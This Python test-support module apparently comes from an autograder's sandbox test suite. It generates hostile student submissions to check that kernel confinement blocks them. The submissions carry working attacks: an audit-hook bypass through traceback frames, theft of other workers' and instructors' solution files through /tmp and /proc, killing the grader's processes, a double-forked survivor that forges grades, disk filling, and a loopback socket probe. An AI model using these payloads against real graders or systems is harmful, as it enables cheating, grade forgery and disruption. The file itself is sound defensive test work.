"""Hostile submissions against the kernel sandbox, and how to run the grader unprivileged.

The course is a copy of the mini course (``tests/grading/mini_course``, :func:`make_course`;
set ``ex01``, module :data:`MODULE`, whose tests also call a function of the course's
catalog, so the support package must reach the confined workers). Every hostile submission
is the ex01 stub with an attack appended. Success of an attack is
visible in two ways: it earns marks (it ``exec``s a working answer it managed to read), or
its functions raise ``ValueError("LEAK ...")`` with what it saw, which lands in its feedback.
Each attack first tries to switch the audit hook off through the frames of the traceback
of the hook's own ``PermissionError`` (which works on the old hook), so that what stops it
is the kernel layer.
"""

from __future__ import annotations

import os
import pwd
import shutil
import stat
import subprocess
import sys
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
MINI = Path(__file__).resolve().parent / "mini_course"
#: The attacked set's module (set ex01 of the mini course).
MODULE = "ex01_arith"
USER = "jaxnm-gradetest"

# Switch the old audit hook off: its state lived in closure cells reachable from the frames
# of the traceback of its own PermissionError. A no-op on a hardened hook or without one.
PRELUDE = r"""
# ---- hostile part (token {token}) ----
import os as _os, sys as _sys, time as _time

if "__all__" not in globals():  # the set's functions, defined above
    __all__ = [_n for _n, _v in list(globals().items()) if callable(_v) and _n[0] != "_"]

def _disable_hook():
    try:
        _os.system("true")
    except PermissionError as e:
        tb = e.__traceback__
        while tb is not None:
            f = tb.tb_frame
            if f.f_code.co_name == "hook":
                prot = f.f_locals.get("protected") or f.f_locals.get("_protected") or ()
                for fn in prot:
                    if getattr(fn, "__name__", "") != "hook":
                        continue
                    try:
                        names = fn.__code__.co_freevars
                        if "protected" in names:
                            fn.__closure__[names.index("protected")].cell_contents = ()
                        vs = [f"v{{i}}" for i in range(len(names))] or ["v"]
                        src = ("def outer():\n " + "=".join(vs) + "=None\n def h(e, a):\n  "
                               + ",".join(vs) + "\n  return None\n return h\n")
                        ns = {{}}
                        exec(src, ns)
                        fn.__code__ = ns["outer"]().__code__
                        return "hook disabled"
                    except BaseException as err:
                        return f"hook kept: {{err}}"
            tb = tb.tb_next
        return "hook kept"
    return "no hook"

HOOK = _disable_hook()
LEAKS = []

def _read(path, n=100000):
    try:
        with open(path, "rb") as f:
            return f.read(n).decode("utf-8", "replace")
    except BaseException:
        return None

def _take(src):
    # A working answer read from somewhere else: use it.
    if src and "NotImplementedError(\"ex01" not in src and "{token}" not in src:
        exec(compile(src, "stolen", "exec"), globals())
        return True
    return False
"""

# The LEAK channel: functions still unimplemented raise with what the attack saw.
EPILOGUE = r"""
if LEAKS:
    def _leaky(*a, **k):
        raise ValueError("LEAK " + " | ".join(LEAKS)[:1500])
    for _n in __all__:
        if getattr(globals()[_n], "__module__", None) == __name__ and _n not in _STOLEN:
            globals()[_n] = _leaky
"""

ATTACKS = {
    # Another worker's live files, by globbing the temporary folders.
    "b_glob_tmp": r"""
import glob as _glob
_STOLEN = set()
_end = _time.time() + 25
while _time.time() < _end and not _STOLEN:
    for _pat in ("{scratch}/**/{module}.py", "/tmp/*/{module}.py",
                 "/tmp/*/*/{module}.py", "/tmp/*/*/*/{module}.py"):
        for _p in _glob.glob(_pat, recursive=True):
            if _os.path.realpath(_p) != _os.path.realpath(__file__) and _take(_read(_p)):
                _STOLEN.update(__all__)
                LEAKS.append("copied " + _p)
                break
    _time.sleep(0.5)
""",
    # The trusted process's environment and command line, then the solutions they name.
    "c_proc_parent": r"""
_STOLEN = set()
_pp = _os.getppid()
for _what in ("environ", "cmdline"):
    _t = _read(f"/proc/{{_pp}}/{{_what}}")
    if _t and ("JAXNM" in _t or "pytest" in _t):
        LEAKS.append(f"/proc/{{_pp}}/{{_what}}: " + _t.replace("\0", " ")[:200])
for _p in ("{course}/solutions/{module}.py",):
    if "{course}" in " ".join(LEAKS) and _take(_read(_p)):
        _STOLEN.update(__all__)
""",
    # A neighbour's working folder through /proc/*/cwd (and its live answer).
    "d_proc_cwd": r"""
_STOLEN = set()
_end = _time.time() + 25
while _time.time() < _end and not _STOLEN:
    for _pid in _os.listdir("/proc"):
        if not _pid.isdigit() or int(_pid) == _os.getpid():
            continue
        _p = f"/proc/{{_pid}}/cwd/{module}.py"
        if _take(_read(_p)):
            _STOLEN.update(__all__)
            LEAKS.append("copied " + _p)
            break
    _time.sleep(0.5)
""",
    # Kill the trusted side: the parent and every process of this batch (pidfd and kill).
    "e_kill": r"""
import signal as _signal
_STOLEN = set()
_end = _time.time() + 25
while _time.time() < _end:
    _targets = {{_os.getppid()}}
    for _pid in _os.listdir("/proc"):
        if _pid.isdigit() and "{scratch}" in (_read(f"/proc/{{_pid}}/environ") or ""):
            _targets.add(int(_pid))
    _targets -= {{0, 1, _os.getpid()}}
    for _pid in _targets:
        try:
            _fd = _os.pidfd_open(_pid)
            _signal.pidfd_send_signal(_fd, _signal.SIGKILL)
            LEAKS.append(f"pidfd-killed {{_pid}}")
        except BaseException:
            try:
                _os.kill(_pid, _signal.SIGKILL)
                LEAKS.append(f"killed {{_pid}}")
            except BaseException:
                pass
    _time.sleep(0.5)
""",
    # A double-forked process that outlives the worker and writes the outputs afterwards.
    "f_survivor": r"""
_STOLEN = set()
try:
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            for _i in range(120):
                _time.sleep(0.5)
                for _p in ("{out}/grades.csv", "{scratch}/survivor-{{}}".format(_os.getpid())):
                    try:
                        with open(_p, "a") as _f:
                            _f.write("a_honest,0,0,forged by a survivor\n")
                    except BaseException:
                        pass
        _os._exit(0)
except BaseException as _err:
    pass
""",
    # The instructor's material by absolute path.
    "g_solutions": r"""
_STOLEN = set()
_h = _read("{course}/hidden_tests/test_{module}.py")
if _h:
    LEAKS.append("hidden test: " + _h[:200])
if _take(_read("{course}/solutions/{module}.py")):
    _STOLEN.update(__all__)
for _p in ("{course}/solutions", "{course}/hidden_tests", "/home", "{out}", "{scratch}"):
    try:
        LEAKS.append(f"listed {{_p}}: " + ",".join(sorted(_os.listdir(_p))[:5]))
    except BaseException:
        pass
""",
    # Fill the disk: must hit the worker's own small tmpfs, not the host's disk.
    "h_disk_fill": r"""
_STOLEN = set()
_n, _err = 0, "no error"
try:
    for _i in range(64):  # at most 2 GiB, in files under the file-size limit
        with open(f"fill{{_i}}.bin", "wb") as _f:
            for _j in range(32):
                _f.write(b"x" * (1 << 20))
                _n += 1 << 20
except OSError as _e:
    _err = f"{{type(_e).__name__}}: {{_e.strerror}}"
LEAKS.append(f"DISK wrote {{_n}} bytes then {{_err}}")
""",
    # The network: a listener of the test on the host's loopback.
    "i_socket": r"""
import socket as _socket
_STOLEN = set()
try:
    _s = _socket.create_connection(("127.0.0.1", {port}), timeout=3)
    _s.sendall(b"{token}")
    _s.close()
    LEAKS.append("connected to the host")
except BaseException as _e:
    pass
""",
}


def make_course(root: Path) -> Path:
    """Copy the mini course (exercises, hidden tests, solutions, support) to ``root``."""
    shutil.copytree(MINI, root, ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    return root


def build(subs: Path, token: str, course: Path, scratch: Path, out: Path, port: int) -> None:
    """Write the honest controls and every hostile submission into ``subs``."""
    stub = (course / "exercises" / f"{MODULE}.py").read_text()
    fmt = {
        "token": token,
        "course": course,
        "scratch": scratch,
        "out": out,
        "port": port,
        "module": MODULE,
    }
    for name in ("a_honest", "z_honest"):  # every set solved: full marks
        (subs / name).mkdir(parents=True)
        for solution in sorted((course / "solutions").glob("ex[0-9]*_*.py")):
            (subs / name / solution.name).write_text(solution.read_text())
    for name, attack in ATTACKS.items():
        (subs / name).mkdir(parents=True)
        text = stub + PRELUDE.format(**fmt) + attack.format(**fmt) + EPILOGUE
        (subs / name / f"{MODULE}.py").write_text(text)


def unprivileged_user() -> tuple[int, int] | None:
    """(uid, gid) of the test user, created when running as root; None when impossible."""
    if os.geteuid() != 0:
        return os.getuid(), os.getgid()
    try:
        pw = pwd.getpwnam(USER)
    except KeyError:
        if not shutil.which("useradd"):
            return None
        r = subprocess.run(
            ["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", USER],
            capture_output=True,
        )
        if r.returncode != 0:
            return None
        pw = pwd.getpwnam(USER)
    return pw.pw_uid, pw.pw_gid


def _blocked_ancestor(path: Path) -> tuple[Path, Path] | None:
    """The highest ancestor others cannot traverse, and its child on the way to ``path``."""
    parts = path.resolve().parts
    for i in range(1, len(parts)):
        anc = Path(*parts[:i])
        if not (anc.stat().st_mode & stat.S_IXOTH):
            return anc, Path(*parts[: i + 1])
    return None


def as_user(argv: list[str], uid: int, gid: int, hold: Path) -> list[str]:
    """``argv`` run as ``uid`` (from root), with the Python environment made reachable.

    A Python installed under a folder others cannot enter (``/root/.pyenv``) is exposed in a
    private mount namespace of the grader: the folder is covered by an empty tmpfs and only
    the needed child is moved back. Nothing of the host changes.
    """
    if os.geteuid() != 0:
        return argv
    pairs = sorted(
        {
            hit
            for p in (Path(sys.base_prefix), Path(sys.prefix), REPO)
            if (hit := _blocked_ancestor(p))
        }
    )
    lines = ["set -e"]
    for i, (_, child) in enumerate(pairs):
        (hold / f"hold{i}").mkdir(parents=True)
        lines.append(f"mount --bind '{child}' '{hold}/hold{i}'")
    for anc in sorted({anc for anc, _ in pairs}):
        lines.append(f"mount -t tmpfs -o mode=755 none '{anc}'")
    for i, (_, child) in enumerate(pairs):
        lines.append(f"mkdir -p '{child}' && mount --move '{hold}/hold{i}' '{child}'")
    lines.append('exec "$@"')
    setpriv = ["setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups", "--"]
    return [
        "unshare",
        "--mount",
        "--propagation",
        "private",
        "--",
        "sh",
        "-c",
        "\n".join(lines),
        "sh",
        *setpriv,
        *argv,
    ]
